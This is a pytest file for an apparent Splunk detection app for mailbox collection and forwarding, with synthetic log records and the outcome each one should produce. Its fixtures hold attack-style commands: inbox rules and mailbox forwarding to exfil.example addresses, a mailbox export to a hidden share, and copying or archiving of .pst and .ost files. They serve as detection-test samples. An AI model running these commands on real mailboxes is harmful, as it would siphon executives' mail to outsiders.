"""Each shape and source issue 12 added, through the built command over the chunked protocol:
a finding, a miss that must stay a miss, and an allowlisted event, for classic WinEventLog
Security and PowerShell 4104, MSExchange Management CmdletLogs XML (EventID 1 and the failed
EventID 6), message-tracking AGENTINFO rows, Microsoft Graph activity logs and Defender XDR
advanced hunting."""

import copy
import csv
import json
import os
import shutil


from tests.conftest import missing_shared_data, shared_datasets
from tests.shared_samples import sekoia_record
from tests.splunk_shapes import (classic_powershell_shapes, classic_security_shapes, cloud_app_events_shapes, defender_device_shapes,
                                 exchange_cmdlet_xml_shapes)
from tools.chunked_client import run, script_path

OUTLOOK = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
ALLOWED_APP = "3c1d5e7f-0000-4000-8000-0000000a11ed"
OTHER_APP = "9e8d7c6b-0000-4000-8000-00000000bad0"
MIGRATION_CALLER = "contoso.local/Service Accounts/svc-migrate"
MIGRATION_SCRIPT_USER = "CONTOSO\\svc-migrate"


def _security(code, **fields):
    return dict({"_time": "1764216000", "sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Security",
                 "EventCode": code, "Computer": "ws-017.contoso.com", "SubjectUserName": "bob",
                 "SubjectDomainName": "CONTOSO"}, **fields)


def _sysmon(code, **fields):
    return dict({"_time": "1764216000", "sourcetype": "XmlWinEventLog",
                 "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", "EventCode": code,
                 "Computer": "ws-017.contoso.com", "User": "CONTOSO\\bob"}, **fields)


def _cmdlet_log(message, user="CONTOSO\\exadmin"):
    return {"_time": "1764216000", "Message": "Cmdlet suceeded. Cmdlet %s." % message, "User": user,
            "ComputerName": "EX01.contoso.local"}


def _graph(app_id, uri, user_agent="python-requests/2.32.3"):
    return {"_time": "1764216000", "sourcetype": "mscs:azure:eventhub", "_raw": json.dumps({
        "category": "MicrosoftGraphActivityLogs", "operationName": "Microsoft Graph Activity",
        "callerIpAddress": "203.0.113.50", "properties": {
            "requestUri": uri, "requestMethod": "GET", "responseStatusCode": 200, "appId": app_id,
            "servicePrincipalId": "0a9b8c7d-aaaa-4bbb-8ccc-ddddeeeeffff", "userId": None,
            "ipAddress": "203.0.113.50", "userAgent": user_agent}})}


def _app_mail_read(app_id):
    return {"Operation": "MailItemsAccessed", "RecordType": 50, "Workload": "Exchange", "UserType": 5,
            "UserId": "S-1-5-21-1", "AppId": app_id, "ClientAppId": app_id, "MailboxOwnerUPN": "cfo@contoso.com",
            "ClientInfoString": "Client=REST;Client=RESTSystem;;", "OperationCount": 12, "LogonType": 0}


def _tracking(custom, sender="partner@fabrikam.example"):
    return {"_time": "1764216000", "sourcetype": "MSExchange:2019:MessageTracking", "event_id": "AGENTINFO",
            "source_id": "AGENT", "source_context": "AgentDefer", "sender_address": sender,
            "recipient_address": "gil@contoso.com", "server_hostname": "EX02", "custom_data": custom}


def _cases():
    """[(name, record, expected status, expected rule or '')]."""
    cases = []
    # Classic WinEventLog:Security, add-on fields and _raw only.
    robocopy = _security("4688", NewProcessName=r"C:\Windows\System32\Robocopy.exe",
                         ParentProcessName=r"C:\Windows\System32\cmd.exe",
                         CommandLine=r'robocopy "C:\Users\bob\AppData\Local\Microsoft\Outlook" \\files01\drop$ bob.ost')
    temp_read = _security("4663", ObjectName=r"D:\Mail\archive.pst", ProcessName=r"C:\Users\bob\AppData\Local\Temp\x.exe",
                          AccessList="%%4416", AccessMask="0x1")
    own_ost = _security("4663", ObjectName=r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob@contoso.com.ost",
                        ProcessName=OUTLOOK, AccessList="%%4416 %%4417", AccessMask="0x3")
    listing = _security("4663", ObjectName=r"C:\Users\bob\Documents\Outlook Files\bob.pst",
                        ProcessName=r"C:\Windows\explorer.exe", AccessList="%%4423", AccessMask="0x80")
    for name, record, status, rule in (
            ("robocopy of an .ost to a share", robocopy, "finding", "t1114_001_mail_file_command_line"),
            ("read of a .pst by a process from %TEMP%", temp_read, "finding", "t1114_001_mail_file_read"),
            ("Outlook reading its own .ost", own_ost, "suppressed", ""),
            ("attributes of a .pst listed", listing, "", "")):
        for shape, converted in classic_security_shapes(record):
            cases.append(("classic %s (%s)" % (name, shape), converted, status, rule))
    # MSExchange Management CmdletLogs, XML: EventID 1 ran, EventID 6 failed.
    forward = _cmdlet_log('New-InboxRule, parameters -Mailbox "ceo@contoso.com" -Name "x" -ForwardTo "drop@exfil.example"')
    mailbox = _cmdlet_log('Set-Mailbox, parameters -Identity "cfo" -ForwardingSmtpAddress "smtp:cfo@exfil.example"')
    export = _cmdlet_log(r'New-MailboxExportRequest, parameters -Mailbox "ceo" -FilePath "\\fs01\x$\ceo.pst"')
    migrate = _cmdlet_log('Set-Mailbox, parameters -Identity "sales" -ForwardingSmtpAddress "smtp:sales@contoso-new.example"',
                          user=MIGRATION_CALLER)
    cleared = _cmdlet_log('Set-Mailbox, parameters -Identity "cfo" -ForwardingSmtpAddress $null')
    for name, record, status, rule in (
            ("New-InboxRule -ForwardTo", forward, "finding", "t1114_003_inbox_rule_forward_cmdlet"),
            ("Set-Mailbox -ForwardingSmtpAddress", mailbox, "finding", "t1114_003_mailbox_forwarding"),
            ("New-MailboxExportRequest", export, "finding", "t1114_002_mailbox_export_request"),
            ("migration account forwarding", migrate, "suppressed", "t1114_003_mailbox_forwarding"),
            ("forwarding cleared", cleared, "", "")):
        for shape, converted in exchange_cmdlet_xml_shapes(record):
            cases.append(("CmdletLogs %s (%s)" % (name, shape), converted, status, rule))
        if status == "finding":
            for shape, converted in exchange_cmdlet_xml_shapes(record, event_code="6"):
                cases.append(("CmdletLogs failed %s (%s)" % (name, shape), converted, "", ""))
    # PowerShell 4104 in the classic rendering.
    def script(user, text):
        return {"_time": "1764216000", "sourcetype": "XmlWinEventLog", "EventCode": "4104", "Computer": "ws-042",
                "UserID": user, "ScriptBlockText": text}
    for name, record, status, rule in (
            ("forwarding set by an admin", script("CONTOSO\\exadmin", 'Set-Mailbox -Identity cfo -ForwardingSmtpAddress '
                                                  '"smtp:cfo@exfil.example"'), "finding", "t1114_003_mailbox_forwarding"),
            ("forwarding set by the migration account", script(MIGRATION_SCRIPT_USER, 'Set-Mailbox -Identity sales '
                                                               '-ForwardingSmtpAddress "smtp:sales@contoso-new.example"'),
             "suppressed", "t1114_003_mailbox_forwarding"),
            ("mailbox listing", script("CONTOSO\\exadmin", "Get-Mailbox -ResultSize Unlimited | Select Name"), "", "")):
        for shape, converted in classic_powershell_shapes(record):
            cases.append(("classic 4104 %s (%s)" % (name, shape), converted, status, rule))
    # Message tracking AGENTINFO rows of the Transport Rule Agent.
    bcc = "S:TRA=ETR|ruleId=f124891a|st=10/9/2022 12:48:38 AM|action=BlindCopyTo|sev=1|mode=Enforce"
    cases += [
        ("AGENTINFO BlindCopyTo", _tracking(bcc), "finding", "t1114_003_transport_rule_agent_action"),
        ("AGENTINFO BlindCopyTo of the journaling sender", _tracking(bcc, sender="journal-feed@contoso.com"),
         "suppressed", ""),
        ("AGENTINFO rule in audit mode", _tracking(bcc.replace("Enforce", "Audit")), "", ""),
    ]
    # Microsoft Graph activity logs.
    inbox = "https://graph.microsoft.com/v1.0/users/ceo@contoso.com/mailFolders/inbox/messages?$top=100"
    cases += [
        ("Graph app reading another mailbox", _graph(OTHER_APP, inbox), "finding", "t1114_002_graph_mail_read"),
        ("Graph archiving app reading another mailbox", _graph(ALLOWED_APP, inbox), "suppressed", ""),
        ("Graph app reading a profile photo", _graph(OTHER_APP, "https://graph.microsoft.com/v1.0/users/ceo@contoso.com/photo/$value"),
         "", ""),
    ]
    # Defender XDR advanced hunting: DeviceProcessEvents, DeviceFileEvents, CloudAppEvents.
    for name, record, status, rule in (
            ("7-Zip archiving a .pst", _sysmon("1", Image=r"C:\Program Files\7-Zip\7z.exe", ParentImage=r"C:\Windows\explorer.exe",
                                                CommandLine=r"7z.exe a C:\Users\Public\m.7z D:\Mail\archive.pst"),
             "finding", "t1114_001_mail_file_command_line"),
            ("SCANPST repairing a .pst", _sysmon("1", Image=r"C:\Program Files\Microsoft Office\root\Office16\SCANPST.EXE",
                                                 ParentImage=r"C:\Windows\explorer.exe",
                                                 CommandLine=r'SCANPST.EXE "D:\Mail\archive.pst"'), "suppressed", ""),
            ("notepad opening a text file", _sysmon("1", Image=r"C:\Windows\System32\notepad.exe",
                                                    ParentImage=r"C:\Windows\explorer.exe", CommandLine="notepad.exe a.txt"),
             "", ""),
            ("PowerShell writing a .pst to Public", _sysmon("11", Image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                                                            TargetFilename=r"C:\Users\Public\bob.pst"),
             "finding", "t1114_001_mail_file_written_outside_outlook"),
            ("Outlook creating an archive .pst on D:", _sysmon("11", Image=OUTLOOK, TargetFilename=r"D:\Archive\2025.pst"),
             "suppressed", "")):
        for shape, converted in defender_device_shapes(record):
            cases.append(("Defender %s (%s)" % (name, shape), converted, status, rule))
    for name, audit, status, rule in (
            ("app reading a mailbox", _app_mail_read(OTHER_APP), "finding", "t1114_002_mail_items_accessed_application"),
            ("allowlisted archiving app reading a mailbox", _app_mail_read(ALLOWED_APP), "suppressed", ""),
            ("owner reading their own mail", dict(_app_mail_read(OTHER_APP), UserType=0, UserId="cfo@contoso.com",
                                                  AppId="", ClientAppId=""), "", "")):
        for shape, converted in cloud_app_events_shapes(audit):
            cases.append(("CloudAppEvents %s (%s)" % (name, shape), converted, status, rule))
    return cases


def _app_with_rows(built_app, tmp_path):
    """The built app with an applications row for ALLOWED_APP and three account rows."""
    app_dir = str(tmp_path / os.path.basename(built_app))
    shutil.copytree(built_app, app_dir)
    lookups = os.path.join(app_dir, "lookups")
    rows = {
        "t1114_allowlist_applications.csv": [{"app_id": ALLOWED_APP, "name": "Archiver", "rules": "t1114_002_*",
                                              "reason": "mail archiving product, CHG-1"}],
        "t1114_allowlist_accounts.csv": [
            {"account": MIGRATION_CALLER, "rules": "t1114_003_mailbox_forwarding", "reason": "tenant migration, CHG-2"},
            {"account": MIGRATION_SCRIPT_USER, "rules": "t1114_003_mailbox_forwarding", "reason": "tenant migration, CHG-2"},
            {"account": "journal-feed@contoso.com", "rules": "t1114_003_transport_rule_agent_action",
             "reason": "journaling copy to the archive, CHG-3"}],
    }
    # The package ships no site lookup: write each file as | outputlookup would, with the
    # columns the rows have.
    for name, new_rows in rows.items():
        header = list(dict.fromkeys(column for row in new_rows for column in row))
        with open(os.path.join(lookups, name), "w", newline="") as handle:
            writer = csv.DictWriter(handle, header)
            writer.writeheader()
            for row in new_rows:
                writer.writerow(row)
    return app_dir


def test_new_shapes_and_sources_through_the_command(built_app, tmp_path):
    cases = _cases()
    records = []
    for index, (name, record, _, _) in enumerate(cases):
        record = copy.deepcopy(record)
        record["case"] = "%d %s" % (index, name)
        records.append(record)
    result = run(script_path(_app_with_rows(built_app, tmp_path)), records, args=["mode=all"], chunk_size=17)
    assert result["exit_code"] == 0, result["stderr"][-2000:]
    out = result["records"]
    assert [r["case"] for r in out] == [r["case"] for r in records]
    problems = []
    for (name, _, status, rule), record in zip(cases, out):
        rules = record["t1114_rule"] if isinstance(record["t1114_rule"], list) else [record["t1114_rule"]]
        # The expected rule's own finding: other rules may fire on the same event.
        own = [f for f in json.loads(record["t1114_findings"] or "[]") if f["rule"] == rule]
        got = own[0]["status"] if rule and own else record["t1114_status"] if not rule else ""
        if got != status:
            problems.append("%s: expected %s %s, got %s %s (%s)" % (
                name, status or "nothing", rule, got or "nothing", rules, record["t1114_reason"]))
        if status == "suppressed" and own and not own[0]["suppressed_by"]:
            problems.append("%s: suppressed without naming the row" % name)
    assert not problems, "\n".join(problems)
    shapes = {name.rsplit("(", 1)[-1].rstrip(")") for name, _, _, _ in cases if name.endswith(")")}
    assert shapes == {"classic_fields", "classic_raw", "classic_ps_fields", "classic_ps_raw", "exchange_xml_fields", "exchange_xml_raw", "defender_raw",
                      "defender_columns", "cloud_app_events_raw", "cloud_app_events_columns"}, shapes
    assert len(cases) >= 46


def test_export_from_the_xml_cmdlet_log_names_mailbox_and_path(built_app):
    export = _cmdlet_log(r'New-MailboxExportRequest, parameters -Mailbox "ceo" -FilePath "\\fs01\x$\ceo.pst"')
    records = [record for _, record in exchange_cmdlet_xml_shapes(export)]
    out = run(script_path(built_app), records)["records"]
    assert len(out) == 2
    for record in out:
        assert record["t1114_reason"].startswith(r"CONTOSO\exadmin exported mailbox ceo to \\fs01\x$\ceo.pst")
        assert record["dest"] == "EX01.contoso.local"


def test_real_defender_and_graph_samples_through_the_command(built_app):
    """SEKOIA's CloudAppEvents MailItemsAccessed by an application (a finding) and Exchange
    Send (none), and Elastic's six Graph activity records, none of which reads mail."""
    root = shared_datasets()
    defender = os.path.join(root, "SEKOIA-IO__intake-formats", "Microsoft", "microsoft-365-defender", "tests")
    graph = os.path.join(root, "elastic__integrations", "packages", "azure", "data_stream", "graphactivitylogs",
                         "_dev", "test", "pipeline", "test-activitylogs-raw.log")
    if not os.path.isdir(defender) or not os.path.exists(graph):
        missing_shared_data("the Defender and Graph samples are not in ../shared/datasets")
    records = []
    for name in ("test_cloud_app3.json", "test_additional_fields_error1.json"):
        envelope = sekoia_record(os.path.join(defender, name))
        records.append({"sourcetype": "mscs:azure:eventhub", "_raw": json.dumps(envelope), "sample": name})
    with open(graph, encoding="utf-8") as handle:
        for line in handle:
            if line.strip():
                records.append({"sourcetype": "mscs:azure:eventhub", "_raw": line.strip(), "sample": "graph"})
    assert len(records) == 8
    out = run(script_path(built_app), records, args=["mode=all"])["records"]
    assert [(r["sample"], r["t1114_rule"]) for r in out if r["t1114_status"]] == [
        ("test_cloud_app3.json", "t1114_002_mail_items_accessed_application")]
